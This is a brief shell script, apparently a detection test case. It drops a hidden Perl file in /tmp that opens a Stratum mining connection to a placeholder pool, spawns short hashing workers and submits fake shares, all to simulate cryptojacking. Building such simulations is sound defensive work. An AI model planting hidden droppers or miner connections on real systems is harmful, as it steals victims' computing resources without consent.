#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.m.pl <<'END'
use IO::Socket::INET; use Digest::SHA "sha256_hex"; setpriority 0, 0, 19;
my $c = IO::Socket::INET->new("203.0.113.10:3333") or die; $c->autoflush(1);
print $c '{"id":1,"method":"mining.subscribe","params":["cpuminer/2.5.1"]}', "\n"; my $j = <$c>;
print $c '{"id":2,"method":"mining.authorize","params":["wallet.bait","x"]}', "\n";
for my $k (1 .. 2) { next if fork; my $e = time + 4; my $n = 0; sha256_hex($j . $k . $n++) while time < $e; exit }
for (1 .. 4) { print $c '{"id":4,"method":"mining.submit","params":["wallet.bait","1","0","0","', $_, '"]}', "\n"; sleep 1 } wait; wait;
END
perl /tmp/.m.pl
took_place
